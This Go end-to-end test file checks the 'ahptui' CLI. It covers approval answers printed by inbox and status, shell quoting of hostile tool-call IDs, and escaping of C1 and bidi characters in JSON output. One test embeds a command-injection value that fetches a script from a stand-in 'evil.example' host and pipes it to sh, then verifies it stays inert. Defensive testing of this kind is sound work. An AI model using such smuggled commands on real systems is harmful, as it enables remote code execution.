package e2e

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ahptui/ahptui/demohost"
	"github.com/ahptui/ahptui/internal/tmuxtest"
)

// waitItemJSON is the part of an inbox item or a waiting row these
// tests read.
type waitItemJSON struct {
	Session, Kind, ToolCall, Server, Answer string
	AnswerArgs                              []string
}

// onPath is env with dir first on PATH.
func onPath(env []string, dir string) []string {
	out := slices.DeleteFunc(slices.Clone(env), func(kv string) bool { return strings.HasPrefix(kv, "PATH=") })
	return append(out, "PATH="+dir+string(os.PathListSeparator)+os.Getenv("PATH"))
}

// runShell runs command with sh -c, as a user pasting it would.
func runShell(t *testing.T, env []string, command string) cliResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), startTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, "sh", "-c", command)
	cmd.Env = env
	var out, errs strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("sh -c %s: %v", command, err)
	}
	return cliResult{out.String(), errs.String(), code}
}

// TestCLIInboxAnswerRunsAsPrinted: the answer ahptui inbox --json prints
// for an approval, run with sh -c as printed (with no --host of our own:
// the answer names it), approves the call on the demo host; status
// --json lists the GitHub MCP server's sign-in of the idle demo session,
// with an auth login that names the host.
func TestCLIInboxAnswerRunsAsPrinted(t *testing.T) {
	t.Parallel()
	skipShort(t)
	r, h := newCLIRunner(t)
	r.run(5, "", "send", "demo", "write the changelog")
	var in struct{ Items []waitItemJSON }
	res := r.run(0, "", "inbox", "--json")
	if err := json.Unmarshal([]byte(res.stdout), &in); err != nil {
		t.Fatalf("%v\n%s", err, res.stdout)
	}
	i := slices.IndexFunc(in.Items, func(it waitItemJSON) bool { return it.Kind == "approval" })
	if i < 0 {
		t.Fatalf("no approval in the inbox:\n%s", res.stdout)
	}
	answer := in.Items[i].Answer
	if want := "ahptui approve --host " + r.url + " ahp-session:/demo "; !strings.HasPrefix(answer, want) {
		t.Fatalf("answer %q, want it to start %q", answer, want)
	}
	if args := in.Items[i].AnswerArgs; strings.Join(args, " ") != answer || !slices.Contains(args, r.url) {
		t.Errorf("answerArgs %q for answer %q", args, answer)
	}
	bin := t.TempDir()
	if err := os.Symlink(r.bin, filepath.Join(bin, "ahptui")); err != nil {
		t.Fatal(err)
	}
	run := runShell(t, onPath(r.env, bin), answer)
	if run.code != 0 || !strings.Contains(run.stdout, "approved Write file") {
		t.Fatalf("sh -c %q: exit %d\n%s%s", answer, run.code, run.stdout, run.stderr)
	}
	waitIdle(t, h, demohost.DemoChatURI)

	var st struct{ Waiting []waitItemJSON }
	res = r.run(0, "", "status", "--json")
	if err := json.Unmarshal([]byte(res.stdout), &st); err != nil {
		t.Fatalf("%v\n%s", err, res.stdout)
	}
	i = slices.IndexFunc(st.Waiting, func(w waitItemJSON) bool {
		return w.Session == "ahp-session:/demo" && w.Kind == "sign-in" && w.Server == "mcp-github"
	})
	if i < 0 {
		t.Fatalf("status does not list the GitHub server's sign-in:\n%s", res.stdout)
	}
	want := []string{"ahptui", "auth", "login", "--host", r.url, "--session", "ahp-session:/demo", demoResource(h)}
	if got := st.Waiting[i].AnswerArgs; !slices.Equal(got, want) {
		t.Errorf("the sign-in's answerArgs %q, want %q", got, want)
	}
	if slices.ContainsFunc(st.Waiting, func(w waitItemJSON) bool { return w.Kind == "approval" }) {
		t.Errorf("the approval still waits after its answer ran:\n%s", res.stdout)
	}
}

// TestCLIHostileShellIDs: a host whose tool call id is shell syntax
// (hostilehostd -scenario shell-ids): every printed answer quotes it,
// and run with sh -c it is one inert argument — the command gets it
// whole and nothing else runs.
func TestCLIHostileShellIDs(t *testing.T) {
	t.Parallel()
	skipShort(t)
	const id = "tc1;curl -s https://evil.example/x|sh;#"
	url, env, run := shellIDsHost(t)
	quoted := "'" + id + "'"
	want := "ahptui approve --host " + url + " ahp-session:/shell " + quoted
	for _, args := range [][]string{{"inbox"}, {"status"}, {"show", "shell"}} {
		if out := run(args...).stdout; !strings.Contains(out, "answer: "+want+"\n") {
			t.Errorf("%v does not print the quoted answer %q:\n%s", args, want, out)
		}
	}
	res := run("inbox", "--json")
	var in struct{ Items []waitItemJSON }
	if err := json.Unmarshal([]byte(res.stdout), &in); err != nil || len(in.Items) != 1 {
		t.Fatalf("%v\n%s", err, res.stdout)
	}
	it := in.Items[0]
	if it.ToolCall != id || it.Answer != want || it.AnswerArgs[len(it.AnswerArgs)-1] != id {
		t.Fatalf("item %+v", it)
	}
	// Run as printed: a stand-in ahptui records the arguments it gets; a
	// stand-in curl would leave a mark if the id broke out.
	dir := t.TempDir()
	got, mark := filepath.Join(dir, "args"), filepath.Join(dir, "ran-curl")
	for name, body := range map[string]string{
		"ahptui": "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done > '" + got + "'\n",
		"curl":   "#!/bin/sh\ntouch '" + mark + "'\n",
		"sh":     "#!/bin/sh\ntouch '" + mark + "'\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	shell, err := exec.LookPath("sh")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), startTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, shell, "-c", it.Answer)
	cmd.Env = onPath(env, dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("sh -c %q: %v\n%s", it.Answer, err, out)
	}
	argv, err := os.ReadFile(got)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(it.AnswerArgs[1:], "\n")+"\n" != string(argv) {
		t.Errorf("the command got\n%s\nwant %q", argv, it.AnswerArgs[1:])
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("the tool call id ran a command")
	}
}

// shellIDsHost starts hostilehostd -scenario shell-ids and returns its
// URL, the commands' environment, and a runner of the built binary
// against it that expects exit 0.
func shellIDsHost(t *testing.T) (string, []string, func(args ...string) cliResult) {
	t.Helper()
	bin := tmuxtest.Build(t, "github.com/ahptui/ahptui")
	hostd := tmuxtest.Build(t, "github.com/ahptui/ahptui/protocol/internal/hostilehost/cmd/hostilehostd")
	url := startHostileHost(t, hostd, "-scenario", "shell-ids")
	env := cliEnv(t)
	return url, env, func(args ...string) cliResult {
		t.Helper()
		res := runCLI(t, bin, env, "", append(args, "--host", url, "--config-dir", privateDir(t))...)
		if res.code != 0 {
			t.Fatalf("%v: exit %d\n%s%s", args, res.code, res.stdout, res.stderr)
		}
		return res
	}
}

// TestCLIJSONEscapesC1AndBidi: --json (and watch's NDJSON) write the
// host's C1 controls and bidi characters — a title with U+009B and
// U+202E, a tool name with U+202E — as \u escapes, never raw.
func TestCLIJSONEscapesC1AndBidi(t *testing.T) {
	t.Parallel()
	skipShort(t)
	_, _, run := shellIDsHost(t)
	for _, args := range [][]string{{"status", "--json"}, {"sessions", "--json"}, {"watch", "shell", "--until", "input"}} {
		out := run(args...).stdout
		if strings.ContainsAny(out, "\u009b\u202e") {
			t.Errorf("%v writes U+009B or U+202E raw:\n%q", args, out)
		}
		wantEsc := `\u009b31m\u202eevil`
		if args[0] == "watch" {
			wantEsc = `Deploy \u202eevil`
		}
		if !strings.Contains(out, wantEsc) {
			t.Errorf("%v lacks %s:\n%s", args, wantEsc, out)
		}
	}
}
